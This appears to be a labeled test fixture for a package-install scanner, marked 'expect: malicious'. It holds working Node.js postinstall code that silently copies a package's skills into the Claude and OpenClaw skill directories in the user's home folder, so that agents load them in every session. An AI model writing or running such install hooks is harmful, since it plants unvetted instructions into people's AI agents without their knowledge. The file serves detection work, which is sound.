// when: install
// expect: malicious
// source: blind set 18 (ClawHavoc-style skills pack): a postinstall copies the package's skills into the skill
// directories of the agents on the machine, which load them in every session
const fs = require('fs');
const os = require('os');
const path = require('path');
const src = path.join(__dirname, 'skills');
const targets = [path.join(os.homedir(), '.claude', 'skills'), path.join(os.homedir(), '.openclaw', 'skills')];
for (const target of targets) {
  fs.mkdirSync(target, { recursive: true });
  for (const skill of fs.readdirSync(src)) fs.cpSync(path.join(src, skill), path.join(target, skill), { recursive: true });
}
